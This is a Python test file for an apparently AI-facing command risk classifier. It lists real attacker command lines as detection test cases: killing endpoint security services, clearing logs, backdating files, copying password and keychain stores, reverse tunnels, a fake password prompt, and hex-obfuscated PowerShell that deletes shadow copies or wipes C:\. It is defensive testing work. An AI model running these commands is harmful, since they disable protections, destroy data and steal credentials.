"""Detection-rule knowledge (issue 14, safety-sig7): what Sigma / Elastic / Splunk rules know
about attackers' command lines, judged by mechanism, with look-alikes that must stay low."""

from __future__ import annotations

import importlib.util
import sys
from pathlib import Path

import pytest

from aintern_ls.safety import RiskLevel, assess
from aintern_ls.safety.detections import credential_store, security_component
from tests.safety._levels import B, C, D, M, S
from tests.safety._levels import level as _level

ROOT = Path(__file__).resolve().parents[2]


# Stopping, killing, disabling, unloading or removing a security component, by any tool.
SECURITY_OFF = [
    ("systemctl mask --now wazuh-agent", "bash"),
    ("service falcon-sensor stop", "bash"),
    ("service ip6tables stop", "bash"),
    ("systemctl stop kesl && systemctl disable kesl", "bash"),
    ("pkill -f SentinelAgent", "bash"),
    ("killall -9 LuLu", "bash"),
    ("launchctl unload -w /Library/LaunchDaemons/at.obdev.littlesnitchd.plist", "bash"),
    ("launchctl bootout system /Library/LaunchDaemons/com.sentinelone.sentineld.plist", "bash"),
    ("kextunload -b com.apple.iokit.EndpointSecurity", "bash"),
    ('sc.exe stop "Sophos Endpoint Defense Service"', "cmd"),
    ("sc stop CSFalconService", "cmd"),
    ('net stop "Cylance Protect" /y', "cmd"),
    ("taskkill /F /IM RaccineSettings.exe", "cmd"),
    ('schtasks /Change /TN "\\Sophos\\Sophos Update" /Disable', "cmd"),
    ('schtasks /DELETE /TN "Raccine Rules Updater" /F', "cmd"),
    (
        'reg delete "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run" /v "Raccine Tray" /F',
        "cmd",
    ),
    (
        "reg add HKLM\\SYSTEM\\CurrentControlSet\\Services\\UsoSvc /v Start /t REG_DWORD /d 4 /f",
        "cmd",
    ),
    ("wmic process where \"caption like '%carbon%'\" call terminate", "cmd"),
    ("wmic service where \"name like '%bdagent%'\" call stopservice", "cmd"),
    ("Stop-Service -Name Sysmon64 -Force", "powershell"),
    (
        "Set-ItemProperty -Path HKLM:\\SYSTEM\\CurrentControlSet\\Services\\SentinelAgent"
        " -Name Start -Value 4",
        "powershell",
    ),
    ("/opt/kaspersky/kesl/bin/kesl-control --stop-t 1", "bash"),
    ("/lib/ufw/ufw-init force-stop", "bash"),
    ("certutil -addstore Disallowed crowdstrike.cer", "cmd"),
    ("esxcli network firewall set --default-action=true", "bash"),
    ("esxcli network firewall set -e false", "bash"),
]

SECURITY_LOOKALIKES = [
    ("systemctl status wazuh-agent", "bash", S),
    ("sc query SentinelAgent", "cmd", S),
    ("tasklist /svc | findstr /i sophos", "cmd", S),
    ("esxcli network firewall get", "bash", S),
    (
        "reg add HKLM\\SYSTEM\\CurrentControlSet\\Services\\MyAppSvc /v Start /t REG_DWORD /d 4 /f",
        "cmd",
        M,
    ),
    ("certutil -addstore -user My client.cer", "cmd", M),
    ("systemctl stop nginx.service", "bash", D),
    ("pkill -f gunicorn", "bash", D),
    ("echo 'make sense of the logs'", "bash", S),
]


@pytest.mark.parametrize("command,shell", SECURITY_OFF)
def test_security_component_stopped_is_critical(command: str, shell: str) -> None:
    assert _level(command, shell) >= C, command


@pytest.mark.parametrize("command,shell,level", SECURITY_LOOKALIKES)
def test_security_lookalikes_stay_low(command: str, shell: str, level: RiskLevel) -> None:
    assert _level(command, shell) == level, command


LOG_TAMPERING = [
    ("dmesg -C", "bash"),
    ("dmesg --read-clear > /dev/null", "bash"),
    ("dmesg -Tc", "bash"),
    ("/usr/sbin/auditctl -e0", "bash"),
    ('wevtutil sl "Microsoft-Windows-PowerShell/Operational" /ms:65536', "cmd"),
    ('Remove-EventLog -LogName "Windows PowerShell"', "powershell"),
    ("wmic nteventlog where filename='security' call ClearEventLog", "cmd"),
    ("auditpol /restore /file:%TEMP%\\a.csv", "cmd"),
    ("esxcli system syslog config set --loghost=udp://203.0.113.5:514", "bash"),
    ("rm -rf /Users/bob/Library/Logs/*", "bash"),
]
LOG_LOOKALIKES = [
    ("dmesg -T", "bash", S),
    ('wevtutil gl "Windows PowerShell"', "cmd", S),
    ("esxcli system syslog config get", "bash", S),
    ('auditpol /get /subcategory:"Logon"', "cmd", S),
    ("ls ~/Library/Logs", "bash", S),
    ("rm -rf ~/Library/Caches/*", "bash", D),
]


@pytest.mark.parametrize("command,shell", LOG_TAMPERING)
def test_log_tampering_is_critical(command: str, shell: str) -> None:
    assert _level(command, shell) >= C, command


@pytest.mark.parametrize("command,shell,level", LOG_LOOKALIKES)
def test_log_lookalikes_stay_low(command: str, shell: str, level: RiskLevel) -> None:
    assert _level(command, shell) == level, command


@pytest.mark.parametrize(
    "command",
    [
        "touch -r /bin/ls /usr/local/bin/.helper",
        'touch --date="2020-02-02" /etc/ld.so.preload',
        "touch -t 200001010000 /var/log/wtmp",
        'touch -d "2019-01-01 00:00" /var/log/auth.log',
    ],
)
def test_back_dating_logs_and_system_files_is_critical(command: str) -> None:
    found = assess(command, "bash")
    assert found.level == C and any(f.rule == "timestomp" for f in found.findings), command


@pytest.mark.parametrize(
    "command", ["touch -d tomorrow ./build/.stamp", "touch -r a.txt b.txt", "touch notes.txt"]
)
def test_touching_ordinary_files_stays_moderate(command: str) -> None:
    assert _level(command, "bash") == M


CREDENTIAL_ACCESS = [
    ("cp /etc/shadow /tmp/.s", "bash"),
    ("cp ~/Library/Keychains/login.keychain-db /tmp/k.db", "bash"),
    ("tar czf /tmp/b.tgz ~/.config/google-chrome/Default/Login\\ Data", "bash"),
    ("rsync -a ~/.mozilla/firefox/x1.default/key4.db /tmp/", "bash"),
    ("dscl . read /Users/bob ShadowHashData", "bash"),
    ('7z a -pX C:\\Users\\Public\\w.7z "%APPDATA%\\Exodus\\exodus.wallet"', "cmd"),
    (
        'Copy-Item "$env:LOCALAPPDATA\\Google\\Chrome\\User Data\\Default\\Login Data"'
        " $env:TEMP\\ld",
        "powershell",
    ),
]
CREDENTIAL_LOOKALIKES = [
    ("cp ~/.mozilla/firefox/x1.default/prefs.js /tmp/", "bash", M),
    ("tar czf site.tgz ~/Sites", "bash", M),
    ('sqlite3 ~/Library/Safari/History.db "select count(*) from history_items"', "bash", S),
    ("tar xzf keychain-docs.tgz", "bash", M),
]


@pytest.mark.parametrize("command,shell", CREDENTIAL_ACCESS)
def test_credential_stores_copied_or_queried_are_critical(command: str, shell: str) -> None:
    assert _level(command, shell) >= C, command


@pytest.mark.parametrize("command,shell,level", CREDENTIAL_LOOKALIKES)
def test_credential_lookalikes_stay_low(command: str, shell: str, level: RiskLevel) -> None:
    assert _level(command, shell) == level, command


@pytest.mark.parametrize(
    "command,shell,rule",
    [
        (
            "dd if=payload of=/proc/$PID/mem bs=1 seek=$ADDR conv=notrunc",
            "bash",
            "process-injection",
        ),
        ("ssh -fN -R 2222:localhost:22 relay@198.51.100.20", "bash", "remote-access"),
        ("plink -R 4444:127.0.0.1:3389 -l u -pw p 203.0.113.7", "cmd", "remote-access"),
        (
            'osascript -e \'text returned of (display dialog "Update requires your password"'
            ' default answer "" with hidden answer)\'',
            "bash",
            "credential-prompt",
        ),
    ],
)
def test_other_attack_steps_are_critical(command: str, shell: str, rule: str) -> None:
    found = assess(command, shell)
    assert found.level >= C and any(f.rule == rule for f in found.findings), command


@pytest.mark.parametrize(
    "command,shell",
    [
        ("ssh -fN -R 2222:localhost:22 relay@198.51.100.20", "bash"),
        ("plink -R 4444:127.0.0.1:3389 -l u -pw p 203.0.113.7", "cmd"),
    ],
)
def test_reverse_tunnels_to_login_ports_are_the_remote_judges(
    command: str, shell: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    # `remote.reverse_tunnel` (one login-port set) is the rule: without it nothing else fires
    from aintern_ls.safety import analyser, remote

    assert "remote-access" in {f.rule for f in assess(command, shell).findings}
    monkeypatch.setattr(remote, "reverse_tunnel", lambda cmd, name, low: None)
    analyser.cache_clear()
    try:
        assert "remote-access" not in {f.rule for f in assess(command, shell).findings}
    finally:
        monkeypatch.undo()
        analyser.cache_clear()


@pytest.mark.parametrize(
    "command",
    [
        "ssh -N -R 8080:localhost:3000 dev@tunnel.example",
        "ssh -N -L 3389:win10.internal:3389 bastion.example",
        'osascript -e \'display notification "Backup finished" with title "Backup"\'',
    ],
)
def test_tunnel_and_dialog_lookalikes_stay_low(command: str) -> None:
    assert _level(command, "bash") <= M, command


@pytest.mark.parametrize(
    "command,shell",
    [
        ("bcdedit /set {default} recoveryenabled Yes", "cmd"),
        ("vssadmin resize shadowstorage /for=D: /on=D: /maxsize=unbounded", "cmd"),
        ("Set-MpPreference -DisableIOAVProtection $false -DisableScriptScanning 0", "powershell"),
        ("Set-MpPreference -DisableBehaviorMonitoring:$false", "powershell"),
    ],
)
def test_protection_turned_back_on_is_moderate(command: str, shell: str) -> None:
    assert _level(command, shell) == M, command


@pytest.mark.parametrize(
    "command,shell,level",
    [
        ("bcdedit /set {default} recoveryenabled No", "cmd", B),
        ("vssadmin resize shadowstorage /for=C: /on=C: /maxsize=401MB", "cmd", B),
        ("Set-MpPreference -DisableRealtimeMonitoring $true", "powershell", C),
        ("gcim -ClassName Win32_ShadowCopy | rcim", "powershell", B),
        ("gwmi win32_shadowcopy | rwmi", "powershell", B),
        ("gcim Win32_OperatingSystem | Select-Object Caption", "powershell", S),
        ("gwmi Win32_LogicalDisk", "powershell", S),
    ],
)
def test_the_turned_off_forms_and_aliases_keep_their_level(
    command: str, shell: str, level: RiskLevel
) -> None:
    assert _level(command, shell) == level, command


def test_security_component_names() -> None:
    assert security_component("C:\\Program Files\\CrowdStrike\\CSFalconService.exe")
    assert security_component("com.objective-see.lulu.plist")
    assert security_component("Sense") == "sense"  # only as a whole name
    assert security_component("it makes sense") is None
    assert security_component("nginx.service") is None
    assert security_component("reset") is None  # not ESET


def test_credential_store_paths() -> None:
    assert credential_store("/etc/shadow")
    assert credential_store("~/Library/Keychains/login.keychain-db")
    assert credential_store("C:\\Windows\\NTDS\\ntds.dit")
    assert credential_store("~/.config/google-chrome/Default/Login\\ Data")
    assert not credential_store("/etc/passwd.d/notes")
    assert not credential_store("~/Sites/index.html")


def _harvester():  # type: ignore[no-untyped-def]
    spec = importlib.util.spec_from_file_location(
        "sig7_harvest", ROOT / "bench" / "sig7_harvest.py"
    )
    assert spec is not None and spec.loader is not None
    mod = importlib.util.module_from_spec(spec)
    sys.modules["sig7_harvest"] = mod
    spec.loader.exec_module(mod)
    return mod


def test_committed_rows_are_what_the_harvester_makes(tmp_path: Path) -> None:
    """The TSV is derived from the templates only (no tool library needed); labels come
    from the written category table, and the dev split is by rule folder + tactic."""
    h = _harvester()
    out = tmp_path / "rows.tsv"
    h.write_tsv(h.harvest(known=set()), out)
    made = out.read_text(encoding="utf-8").splitlines()
    committed = (ROOT / "tests" / "safety" / "sources_sig7.tsv").read_text(encoding="utf-8")
    kept = committed.splitlines()
    # Every committed row is what the templates make, in their order ...
    assert [line for line in made if line in set(kept)] == kept
    # ... and a row the templates make is left out only because another corpus file holds
    # its command (files committed later, e.g. a new heldout slice, may take rows over).
    known = h._known_commands()
    left_out = [line for line in made[1:] if line not in set(kept)]
    assert all(h.decode_command(line.split("\t", 1)[0]) in known for line in left_out), left_out
    rows = h.harvest()
    assert len(rows) >= 500
    assert sum(r.expected in ("safe", "moderate") for r in rows) >= 120
    assert {r.shell for r in rows} == {"bash", "powershell", "cmd"}
    dev = [r for r in rows if r.split == "dev"]
    assert 0.2 <= len(dev) / len(rows) <= 0.45
    # a whole group (folder + tactic) is on one side
    sides: dict[str, set[str]] = {}
    for r in rows:
        if r.rule.repo != "own":
            sides.setdefault(r.rule.group, set()).add(r.split)
    assert all(len(s) == 1 for s in sides.values())


def test_every_fires_row_holds_a_fragment_of_its_rule() -> None:
    h = _harvester()
    bad = "@ sigma rules/x/y.yml | impact | T | needle\n+ bash wipe | rm -rf /\n"
    with pytest.raises(SystemExit):
        h.parse(bad)
    ok = h.parse("@ sigma rules/x/y.yml | impact | T | needle\n+ bash wipe | needle -rf /\n")
    assert ok[0].expected == "blocked" and ok[0].fires


# `vssadmin delete shadows /all /quiet` as UTF-16LE hex (what `-split '(..)'` + ToByte decodes)
_WIDE_HEX = "vssadmin delete shadows /all /quiet".encode("utf-16-le").hex()


@pytest.mark.parametrize(
    "command,rule",
    [
        # the DarkSide idiom: a hex literal decoded two digits at a time, then Invoke-Expression
        (
            "$a='76737361646d696e2064656c65746520736861646f7773202f616c6c202f7175696574';$b='';"
            "for($i=0;$i -lt $a.Length;$i+=2){$b+=[char][byte]('0x'+$a.Substring($i,2))};iex $b",
            "delete-backups",
        ),
        (
            "$h='52656d6f76652d4974656d202d52656375727365202d466f72636520433a5c'; $s='';"
            " 0..($h.Length/2-1) | % { $s += [char][byte]('0x' + $h.Substring(2*$_,2)) }; iex $s",
            "rm-root",
        ),
        (
            f"iex (-join ('{_WIDE_HEX}' -split '(..)' -ne '' |"
            " % { [char][convert]::ToByte($_,16) }))",
            "delete-backups",
        ),
    ],
)
def test_hex_decoded_powershell_is_judged_as_decoded(
    command: str, rule: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    # blocked, for what the decoded text does (not only the dynamic `iex`, which is critical)
    got = assess(command, "powershell")
    assert got.level == B and rule in {f.rule for f in got.findings}, command
    # and it is the hex decoder that sees it: without it only the opaque `iex` is left
    from aintern_ls.safety import analyser, detections

    monkeypatch.setattr(detections, "_hex_payload", lambda cmd: None)
    analyser.cache_clear()
    try:
        without = assess(command, "powershell")
        assert without.level == C and rule not in {f.rule for f in without.findings}, command
    finally:
        monkeypatch.undo()
        analyser.cache_clear()


def test_hex_decoded_and_only_printed_stays_low() -> None:
    command = (
        "$h='476574'; $s=''; 0..2|%{$s+=[char][byte]('0x'+$h.Substring(2*$_,2))}; Write-Host $s"
    )
    assert _level(command, "powershell") <= M


@pytest.mark.parametrize(
    "command,shell,level",
    [
        ('amazon-ssm-agent -register -code "Zx9" -id "aaaa-1111" -region "eu-west-1"', "bash", C),
        ('echo Winter2024! | "C:\\ProgramData\\AnyDesk\\AnyDesk.exe" --set-password', "cmd", C),
        ("rustdesk --password 'S3cret!' --option allow-remote-config-modification Y", "bash", C),
        ("amazon-ssm-agent -version", "bash", S),  # a known agent: its version (review8)
        ("groupdel -f contractors", "bash", D),
        ("pbpaste | head -5", "bash", S),
        ("xclip -selection clipboard -o", "bash", S),
        ("klist -e", "bash", S),
        ("tc -s qdisc ls dev eth0", "bash", S),
        ("scutil --get ComputerName", "bash", S),
        ("tc qdisc add dev eth0 root netem delay 100ms", "bash", M),
        ("scutil --set HostName build-01", "bash", M),
        ("klist purge", "cmd", M),
        ("xclip -selection clipboard < notes.txt", "bash", M),
    ],
)
def test_remote_admin_enrolment_and_read_modes(command: str, shell: str, level: RiskLevel) -> None:
    assert _level(command, shell) == level, command


@pytest.mark.parametrize(
    "command,shell,level",
    [
        ("Remove-MpPreference -AttackSurfaceReductionRules_Actions Enabled", "powershell", C),
        (
            "Remove-MpPreference -ControlledFolderAccessProtectedFolders D:\\Finance",
            "powershell",
            C,
        ),
        (
            'reg add "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa" /v RunAsPPLBoot'
            " /t REG_DWORD /d 0 /f",
            "cmd",
            C,
        ),
        (
            'reg add "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa" /v RunAsPPL'
            " /t REG_DWORD /d 2 /f",
            "cmd",
            M,
        ),
        ("reg add HKLM\\SYSTEM\\CurrentControlSet\\Services\\AppIDSvc /v Start /d 4 /f", "cmd", C),
        ("wmic service where \"name='MSSQLSERVER'\" call stopservice", "cmd", D),
        ('wmic service where name="W3SVC" call ChangeStartMode Disabled', "cmd", D),
        ('wmic service where name="W3SVC" call startservice', "cmd", M),
    ],
)
def test_defender_lsa_and_wmi_services(command: str, shell: str, level: RiskLevel) -> None:
    assert _level(command, shell) == level, command
